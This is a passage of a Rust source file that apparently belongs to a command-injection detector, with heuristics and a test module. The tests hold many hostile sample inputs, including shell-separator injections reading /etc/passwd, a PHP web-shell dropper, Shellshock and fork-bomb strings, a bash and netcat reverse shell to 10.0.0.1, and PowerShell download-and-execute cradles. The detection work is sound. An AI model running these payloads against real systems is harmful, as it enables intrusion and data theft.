        is_slice(inside) && memchr::memmem::find(inside, b":~").is_some()
    })
}

/// `/???/??t`, `/bin/c?t`, `/et*/p*d`, `/usr/[a-z]in/bash`: a folder of Unix or what stands in it,
/// with marks for some letters. People ask `/what/??`, and routes are written `/blog/[slug]`.
fn is_glob(text: &[u8]) -> bool {
    let is_end = |it: &u8| {
        !(it.is_ascii_alphanumeric()
            || matches!(it, b'/' | b'?' | b'*' | b'[' | b']' | b'-' | b'_' | b'.' | b'!'))
    };
    text.split(is_end).take(PIECES_MAX).any(|word| {
        let mut parts = word.split(|it| *it == b'/').filter(|it| !it.is_empty());
        let (Some(folder), Some(file)) = (parts.next(), parts.next()) else { return false };
        if !word.starts_with(b"/") {
            return false;
        }
        let marks = |it: &[u8]| it.iter().filter(|it| matches!(it, b'?' | b'*' | b'[')).count();
        let is_folder = FOLDERS.iter().any(|it| matches_glob(folder, it.as_bytes()));
        let has_letters = folder.iter().chain(file).any(u8::is_ascii_alphabetic);
        let in_folder =
            marks(folder) > 0 && is_folder && (has_letters || marks(folder) + marks(file) >= 5);
        let is_known = matches!(folder, b"etc" | b"bin" | b"usr" | b"sbin");
        let splits = |it: &[u8]| {
            it.starts_with(b"[") && it.contains(&b']') && it.len() > 3
                || it
                    .iter()
                    .position(|it| *it == b'?')
                    .is_some_and(|at| at + 1 < it.len() && !it.contains(&b'.'))
                || it.contains(&b'?') && it.len() <= 3
        };
        in_folder || is_known && splits(file)
    })
}

const FOLDERS: &[&str] = &["bin", "etc", "usr", "sbin", "proc", "home", "root"];

/// Whether `glob` stands for `name`: `?` for one byte, the first `*` for any.
fn matches_glob(glob: &[u8], name: &[u8]) -> bool {
    let fits = |glob: &[u8], name: &[u8]| {
        glob.iter().zip(name).all(|(mark, byte)| matches!(mark, b'?' | b'*') || mark == byte)
    };
    match memchr::memchr(b'*', glob).and_then(|at| Some((glob.get(..at)?, glob.get(at + 1..)?))) {
        Some((front, back)) => {
            let rest = name.get(name.len().saturating_sub(back.len())..).unwrap_or_default();
            !front.is_empty()
                && front.len() + back.len() <= name.len()
                && fits(front, name)
                && fits(back, rest)
        }
        None => glob.len() == name.len() && fits(glob, name),
    }
}

/// A shell whose input and output are a socket.
fn has_socket(text: &[u8], marks: Marks) -> bool {
    let has_device = memchr::memmem::find(text, b"/dev/").is_some();
    if !has_device && !marks.has(Marks::SPACE.and(Marks::DASH)) && !marks.has(Marks::PARENTHESIS) {
        return false;
    }
    let netcat = || {
        commands(text, false).take(PIECES_MAX).any(|it| {
            let name = bare(it.text.trim_ascii());
            let is_netcat =
                ["nc", "ncat", "netcat"].iter().any(|it| name.eq_ignore_ascii_case(it.as_bytes()));
            is_netcat
                && words(it.arguments)
                    .any(|it| matches!(it, [b'-', .., b'e' | b'c']) && it.len() <= 8)
        })
    };
    ["/dev/tcp/", "/dev/udp/"].iter().any(|it| memchr::memmem::find(text, it.as_bytes()).is_some())
        || netcat()
        || caseless::contains(text, b"bash -i") && text.contains(&b'>')
        || caseless::contains(text, b"mkfifo ")
            && caseless::contains_any(text, &["nc ", "telnet ", "openssl "])
        || caseless::contains_any(text, &["socket"])
            && caseless::contains_any(text, &["/bin/sh", "/bin/bash"])
            && caseless::contains_any(text, &["dup2", "exec", "connect", "spawn"])
}

/// Something is sent to or read from the socket.
fn has_redirect(text: &[u8]) -> bool {
    text.iter().any(|it| matches!(it, b'>' | b'<' | b'-' | b'('))
}

/// Whether `text` calls a function that runs a command, as the first thing it says: true if what it
/// runs is one.
fn call(text: &[u8]) -> Option<bool> {
    let text = text.trim_ascii();
    let text = ["<?php", "<?=", "<?"]
        .iter()
        .find_map(|it| text.strip_prefix(it.as_bytes()))
        .unwrap_or(text);
    let is_lead = |it: &&u8| {
        matches!(
            it,
            b';' | b'|'
                | b'&'
                | b' '
                | b'.'
                | b'@'
                | b'$'
                | b'{'
                | b'\''
                | b'"'
                | b')'
                | b'+'
                | b'`'
                | b'('
                | b'!'
        )
    };
    let lead = text.iter().take_while(is_lead).count();
    let before = text;
    let text = text.get(lead..).unwrap_or_default();
    // PHP evaluates what stands in `${}` of a string.
    let marks = before.get(..lead).unwrap_or_default();
    let is_nested =
        [&b"${@"[..], b"{${"].iter().any(|it| memchr::memmem::find(marks, it).is_some());
    if is_nested
        && text.iter().find(|it| !it.is_ascii_alphanumeric() && **it != b'_') == Some(&b'(')
    {
        return Some(true);
    }
    let name = CALLS.iter().find(|it| caseless::starts(text, it.as_bytes()))?;
    let rest = text.get(name.len()..)?.trim_ascii_start().strip_prefix(b"(")?.trim_ascii_start();
    if matches!(marks, [b';' | b'|' | b'&', ..]) && rest.contains(&b')') {
        return Some(true);
    }
    let [b'"' | b'\'' | b'`', inside @ ..] = rest else {
        return rest.starts_with(b"$_").then_some(true).or(Some(false));
    };
    let end = memchr::memchr3(b'"', b'\'', b')', inside).unwrap_or(inside.len());
    let inside = inside.get(..end).unwrap_or_default();
    let first = commands(inside, false).next()?;
    Some(first.name > Name::Other)
}

/// Whether a command is run by a call in the midst.
fn runs(text: &[u8]) -> bool {
    ["exec(", "execsync(", "system(", "popen("].iter().any(|it| {
        let Some(at) = caseless::find(text, it.as_bytes()) else { return false };
        let argument = text.get(at + it.len()..).unwrap_or_default().trim_ascii_start();
        let argument = argument.strip_prefix(b"\\").unwrap_or(argument);
        let [b'"' | b'\'' | b'`', inside @ ..] = argument else { return false };
        let end = memchr::memchr3(b'"', b'\'', b'\\', inside).unwrap_or(inside.len());
        commands(inside.get(..end).unwrap_or_default(), false).any(|it| fit(&it) > Fit::No)
    })
}

const CALLS: &[&str] = &[
    "system",
    "exec",
    "passthru",
    "shell_exec",
    "popen",
    "proc_open",
    "pcntl_exec",
    "eval",
    "os.system",
    "os.popen",
    "subprocess.call",
    "subprocess.check_output",
    "subprocess.popen",
    "subprocess.run",
    "__import__",
    "assert",
    "print`",
    "child_process.exec",
    "require('child_process')",
    "runtime.getruntime().exec",
    "java.lang.runtime.getruntime().exec",
    "print(md5",
    "file_get_contents",
    "phpinfo",
];

fn is_encoded_option(word: &[u8]) -> bool {
    ["-e", "-ec", "-en", "-enc", "-encodedcommand", "/e", "/enc", "-encoded", "/ec"]
        .iter()
        .any(|it| word.eq_ignore_ascii_case(it.as_bytes()))
}

/// `Invoke-WebRequest http://x`: a verb, a noun and an argument.
fn is_cmdlet(text: &[u8]) -> bool {
    let text = text.trim_ascii_start();
    let mut words = words(text);
    let (Some(name), argument) = (words.next(), words.next()) else { return false };
    let Some(dash) = memchr::memchr(b'-', name) else { return false };
    let (verb, noun) = name.split_at_checked(dash).unwrap_or_default();
    let noun = noun.get(1..).unwrap_or_default();
    VERBS.has(verb)
        && caseless::starts_any(noun, NOUNS)
        && argument.is_none_or(|it| {
            is_technical(unquoted(it), true) || it.starts_with(b"(") || is_file(it)
        })
}

const VERBS: Words = Words::new(&[
    "add", "clear", "copy", "enter", "export", "get", "import", "invoke", "new", "out", "remove",
    "set", "start", "stop", "write",
]);

const NOUNS: &[&str] = &[
    "webrequest",
    "restmethod",
    "expression",
    "command",
    "item",
    "content",
    "process",
    "service",
    "object",
    "childitem",
    "wmi",
    "cim",
    "bitstransfer",
    "host",
    "pssession",
    "executionpolicy",
    "mppreference",
    "localuser",
    "netip",
    "aduser",
    "alias",
    "variable",
    "acl",
    "eventlog",
];

/// `for %x in (...) do`, `if exist x command`, `if a equ b`.
fn is_control(text: &[u8]) -> bool {
    let is_lead = |it: &&u8| matches!(it, b'&' | b'|' | b';' | b' ' | b'@' | b'(');
    let lead = text.iter().take_while(is_lead).count();
    let text = text.get(lead..).unwrap_or_default();
    let mut words = words(text).take(PIECES_MAX);
    let Some(first) = words.next() else { return false };
    let is = |word: &[u8], names: &[&str]| {
        names.iter().any(|it| word.eq_ignore_ascii_case(it.as_bytes()))
    };
    if is(first, &["for"]) {
        let has_variable = words.by_ref().take(8).any(|it| it.starts_with(b"%"));
        return has_variable && words.any(|it| is(it, &["in"]));
    }
    if !is(first, &["if"]) {
        return false;
    }
    let mut rest = words.skip_while(|it| is(it, &["/i", "not"]));
    let Some(second) = rest.next() else { return false };
    let is_test = is(second, &["exist", "errorlevel", "defined", "cmdextversion"]);
    let compares = |it: &[u8]| {
        is(it, &["equ", "neq", "lss", "leq", "gtr", "geq"])
            || memchr::memmem::find(it, b"==").is_some()
    };
    let third = rest.next();
    is_test && third.is_some() && rest.next().is_some()
        // With blanks on both sides it is how others write it.
        || (compares(second) || third.is_some_and(|it| it != b"==" && compares(it)))
            && !matches!(second, [b'(', b'a'..=b'z' | b'A'..=b'Z' | b'$', ..])
}

/// `<<<word`, `<(command)`, `>(command)`.
fn is_here(text: &[u8]) -> bool {
    let process = |at: usize| {
        let inside = text.get(at + 2..).unwrap_or_default();
        let count =
            inside.iter().take_while(|it| it.is_ascii_alphanumeric() || **it == b' ').count();
        inside.get(count) == Some(&b')') && (count == 0 || at == 0 || at < LEAD_BYTES_MAX)
    };
    let is_html = memchr::memmem::find(text, b"</").is_some();
    let has_process = || {
        [b"<(", b">("]
            .iter()
            .any(|it| memchr::memmem::find_iter(text, it).take(PIECES_MAX).any(process))
    };
    memchr::memmem::find(text, b"<<<").is_some_and(|at| at > 0) || !is_html && has_process()
}

/// A line end and a command of IMAP, SMTP or POP3 in capitals, with or without a tag.
fn is_protocol(text: &[u8]) -> bool {
    let Some(at) = memchr::memchr2(b'\r', b'\n', text).filter(|at| *at <= LEAD_BYTES_MAX) else {
        return false;
    };
    let line = text.get(at..).unwrap_or_default().trim_ascii();
    if line.contains(&b'\n') {
        return false;
    }
    let mut words = words(line);
    let Some(first) = words.next() else { return false };
    let is = |word: &[u8]| {
        PROTOCOL_COMMANDS.iter().any(|it| word.eq_ignore_ascii_case(it.as_bytes()))
            && !matches!(word, [a, b, ..] if a.is_ascii_uppercase() && b.is_ascii_lowercase())
    };
    let is_tag = matches!(first, [b'a'..=b'z' | b'A'..=b'Z', digits @ ..] if !digits.is_empty() && digits.iter().all(u8::is_ascii_digit));
    let (command, argument) = if is_tag {
        (words.next().unwrap_or_default(), words.next())
    } else {
        (first, words.next())
    };
    let is_number = argument.is_none_or(|it| it.iter().all(u8::is_ascii_digit));
    is(command) && (is_tag || at == 0 && (is_number || command.iter().all(u8::is_ascii_uppercase)))
}

const PROTOCOL_COMMANDS: &[&str] = &[
    "APOP",
    "APPEND",
    "AUTH",
    "AUTHENTICATE",
    "CAPA",
    "CAPABILITY",
    "CHECK",
    "CLOSE",
    "COPY",
    "CREATE",
    "DATA",
    "DELE",
    "DELETE",
    "EHLO",
    "EXAMINE",
    "EXPN",
    "EXPUNGE",
    "FETCH",
    "HELO",
    "HELP",
    "LIST",
    "LOGIN",
    "LOGOUT",
    "LSUB",
    "MAIL",
    "NOOP",
    "PASS",
    "QUIT",
    "RCPT",
    "RENAME",
    "RETR",
    "RSET",
    "SEARCH",
    "SELECT",
    "SIZE",
    "STARTTLS",
    "STAT",
    "STATUS",
    "STLS",
    "STORE",
    "SUBSCRIBE",
    "TOP",
    "TURN",
    "UID",
    "UIDL",
    "UNSUBSCRIBE",
    "USER",
    "VRFY",
];

#[cfg(test)]
mod tests {
    use super::super::sign::{self, Strength};
    use super::*;

    fn strength(text: &str) -> Option<Strength> {
        look(&Input::of(text.as_bytes(), false)).strength(SIGNS)
    }

    #[track_caller]
    fn check(expected: Option<Strength>, values: &[&str]) {
        sign::check(SIGNS, look, false, expected, values);
    }

    #[track_caller]
    fn at_most(most: Strength, values: &[&str]) {
        for value in values {
            assert!(strength(value).is_none_or(|it| it <= most), "{value}: {:?}", strength(value));
        }
    }

    #[test]
    fn a_command_behind_a_separator_is_certain() {
        check(
            Some(Strength::Certain),
            &[
                "; id",
                "|id",
                "|id|",
                "&& whoami",
                "& ping -n 30 127.0.0.1 &",
                "|| cat /etc/passwd",
                "; SLEEP 5",
                "127.0.0.1; whoami",
                "127.0.0.1|WHOAMI",
                "www.example.com;cat /etc/passwd",
                "a);/usr/bin/id;",
                "'; sleep 10; '",
                "\" ; /bin/sleep 31 ;",
                "x' && ls -la #",
                "%0Acat%20/etc/passwd",
                "+|+dir+c:/",
                "; echo \"<?php system($_GET['cmd']); ?>\" > cmd.php",
                "& net user mallory secret /ADD",
                "\\nid\\n",
            ],
        );
    }

    #[test]
    fn a_substitution_is_certain_where_it_is_all() {
        check(
            Some(Strength::Certain),
            &[
                "$(cat /etc/passwd)",
                "$(whoami)",
                "'`sleep 5`'",
                "x.`nslookup x.example.com`",
                "10.0.0.1$(sleep 5)",
            ],
        );
        check(Some(Strength::Likely), &["`id`", "$(id)", "who`echo am`i"]);
    }

    #[test]
    fn a_disguised_name_is_certain() {
        check(
            Some(Strength::Certain),
            &[
                "w'h'oami",
                "WH\"OA\"MI",
                "who$@ami",
                "w\\ho\\am\\i",
                "who^ami",
                "c'a't /etc/passwd",
                "cat${IFS}/etc/passwd",
                "cat$IFS$9/etc/hosts",
                "{cat,/etc/passwd}",
                "{,ip,a}",
                "/???/??t /???/p??s??",
                "/bin/c?t",
                "/usr/[a-z]in/bash",
                "/et*/p*d",
            ],
        );
        check(
            Some(Strength::Likely),
            &["a=who;b=ami;$a$b", "ls ${HOME:0:1}", "%ProgramFiles:~10,1%"],
        );
    }

    #[test]
    fn known_constructions_are_certain() {
        check(
            Some(Strength::Certain),
            &[
                "() { :;}; /bin/bash -c \"ping -c 3 host\"",
                "() { _; } >_[$($())] { id; }",
                ":(){ :|:& };:",
                "f(){ f|f& };f",
                "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "nc -e /bin/sh 10.0.0.1 4444",
                "<!--#EXEC cmd=\"ls\"-->",
                "system('id')",
                "; exec('whoami');",
                "<?php passthru(\"ls\");?>",
                "${@print(1)}",
                "{${sleep(20)}}",
                "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
                "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/y')\"",
            ],
        );
    }

    #[test]
    fn a_command_alone_is_likely() {
        check(
            Some(Strength::Likely),
            &[
                "ping -c 3 host",
                "curl http://example.com/x",
                "sleep 5",
                "which python",
                "net localgroup x",
                "sh -c ls",
                "Invoke-WebRequest http://x/y.ps1",
                "for /f \"delims=,\" %a in (x.txt) do echo %a",
                "if exist x.txt echo y",
                "if 1 EQU 1 echo y",
                "netstat -an",
                "ipconfig /all",
                "nohup whoami",
                "'time' ifconfig -a",
                "uname",
                "phpinfo()",
                "x$()y",
            ],
        );
        check(
            Some(Strength::Certain),
            &[
                "cat /etc/passwd",
                "type C:\\boot.ini",
                "cat</etc/shadow",
                "\r\nA1 QUIT",
                "\r\nRCPT TO:<a@example.com>",
            ],
        );
        check(Some(Strength::Hint), &["whoami", "~+"]);
    }

    #[test]
    fn what_people_write_has_no_sign() {
        check(
            None,
            &[
                "",
                "alice",
                "I'd like to find the date",
                "cat food",
                "cats & dogs",
                "AT&T",
                "R&D; sales",
                "Tom & Jerry",
                "time flies; who knows",
                "date",
                "echo",
                "a < b && c > d",
                "name|title",
                "text/html; charset=utf-8",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
                "50% off | free shipping",
                "which one? the red; more later",
                "C:\\Users\\me\\notes.txt",
                "function () { return 1; }",
                "sort[name]",
                "{id, name}",
                "user@example.com",
                "2026-01-31 10:00",
                "https://example.com/a?b=c&d=e",
                "O'Neil & sons; much",
                "color: red; top: 5px;",
                "{\"a\": 1}",
                "how are you?",
                "/blog/[slug]",
                "GET /x",
                "PATCH /v1/users/7",
            ],
        );
    }

    #[test]
    fn what_speaks_of_commands_is_no_certainty() {
        at_most(
            Strength::Likely,
            &[
                "npm run build && npm test",
                "curl -f http://localhost/ || exit 1",
                "git add . && git commit -m x",
                "mytool | grep -i error",
                "| grep foo",
                "|| true",
                "`ls -la`",
                "$(date)",
                "docker;kubectl;vim",
                "title|id",
                "dog;cat",
                "Run `sudo rm -rf /tmp/x`; then cat the file",
                "$(document).ready(init)",
                "$(find)",
                "I think; cat /etc/hosts shows it",
                "#!/bin/sh\nset -e\ncd /tmp; ls -la\necho done\n",
            ],
        );
    }

    #[test]
    fn hostile_values_take_bounded_time() {
        for unit in [
            "`", "$(", ";", "|id", "$IFS", "{,", "a'", "&amp", "%0a", "\\", "/?", "<(", "${",
            "cat ",
        ] {
            let text: Vec<u8> = unit.bytes().cycle().take(64 * 1024).collect();
            let start = std::time::Instant::now();
            look(&Input::of(&text, false));
            assert!(start.elapsed().as_millis() < 500, "{unit}: {:?}", start.elapsed());
        }
    }
}
